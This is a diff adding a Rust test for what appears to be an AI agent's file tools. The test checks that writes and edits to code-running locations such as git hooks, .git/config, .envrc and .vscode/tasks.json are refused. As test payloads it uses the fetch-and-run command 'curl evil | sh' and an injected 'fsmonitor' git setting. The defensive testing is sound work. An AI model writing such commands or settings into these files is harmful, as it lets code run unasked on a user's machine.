@@ -81,6 +81,48 @@ async fn a_dangling_link_in_the_workspace_is_not_written_through() {
 }
 
 #[tokio::test]
+async fn places_where_a_write_runs_code_are_never_written() {
+    let root = temp_dir("protected");
+    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+    std::fs::create_dir_all(root.join("vendor/lib/.git")).unwrap();
+    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
+    std::os::unix::fs::symlink(root.join(".git"), root.join("gitdir")).unwrap();
+    let t = tools(&root);
+    for path in [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        "./.git//config",
+        "vendor/lib/.git/hooks/post-checkout",
+        "gitdir/hooks/pre-commit",
+        ".envrc",
+        "sub/.envrc",
+        ".env",
+        ".env.local",
+        ".vscode/tasks.json",
+        ".hg/hgrc",
+        ".svn/entries",
+    ] {
+        let err = call(&t, "write_file", json!({"path": path, "content": "curl evil | sh"})).await.unwrap_err();
+        assert!(err.contains("protected"), "{path}: {err}");
+    }
+    let err = call(&t, "edit_file", json!({"path": ".git/config", "old": "[core]", "new": "[core]\nfsmonitor = evil"}))
+        .await
+        .unwrap_err();
+    assert!(err.contains("protected"), "{err}");
+    assert_eq!(std::fs::read_to_string(root.join(".git/config")).unwrap(), "[core]\n");
+    assert!(!root.join(".git/hooks/pre-commit").exists() && !root.join(".envrc").exists());
+    // Reading them is fine; names that merely look alike are not protected.
+    assert_eq!(call(&t, "read_file", json!({"path": ".git/config"})).await.unwrap(), "[core]\n");
+    for path in ["docs/git.md", ".github/workflows/ci.yml", "environment.txt", ".vscode/settings.json"] {
+        call(&t, "write_file", json!({"path": path, "content": "ok"})).await.unwrap();
+    }
+    // Lifted by name.
+    let relaxed = Arc::new(Workspace::new(&root).unwrap().unprotect(".env*")).tools();
+    call(&relaxed, "write_file", json!({"path": ".env.example", "content": "PORT=1"})).await.unwrap();
+    assert!(call(&relaxed, "write_file", json!({"path": ".envrc", "content": "x"})).await.is_err());
+}
+
+#[tokio::test]
 async fn the_file_tools_read_list_search_write_and_edit() {
     let root = temp_dir("ops");
     let t = tools(&root);
